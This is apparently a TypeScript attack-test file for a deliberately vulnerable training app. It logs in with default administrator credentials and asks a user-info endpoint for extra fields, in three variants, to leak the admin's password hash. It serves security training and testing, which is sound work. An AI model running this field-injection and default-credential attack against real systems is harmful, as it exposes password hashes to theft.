import type { Attack, Tools } from '#lab'

const HASH_OF_ADMIN123 = '0192023a7bbd73250516f069df18b500'

/** Logs in as the administrator and asks for the current user, field by field. */
async function askFor({ http, settings, expect }: Tools, fields: string): Promise<void> {
  const account = { email: `admin@${settings.domain}`, password: 'admin123' }
  const login = await http.post('/rest/user/login', account)
  expect(login.status === 200, `the login answered with ${login.status}`)
  const { token } = login.json<{ authentication: { token: string } }>().authentication
  const answer = await http.get(`/rest/user/whoami?fields=${fields}`, {
    headers: { cookie: `token=${token}` },
  })
  const { user } = answer.json<{ user: { password?: string } }>()
  expect(user.password === HASH_OF_ADMIN123, 'there is no hash in the answer')
}

export const attacks: Attack[] = [
  {
    challenge: 'passwordHashLeakChallenge',
    name: 'ask for one field more than our pages do',
    run: (tools) => askFor(tools, 'id,email,password'),
  },
  {
    challenge: 'passwordHashLeakChallenge',
    name: 'ask for nothing but the hash',
    run: (tools) => askFor(tools, 'password'),
  },
  {
    challenge: 'passwordHashLeakChallenge',
    name: 'ask politely, with a space after the comma',
    run: (tools) => askFor(tools, 'id,%20password'),
  },
]
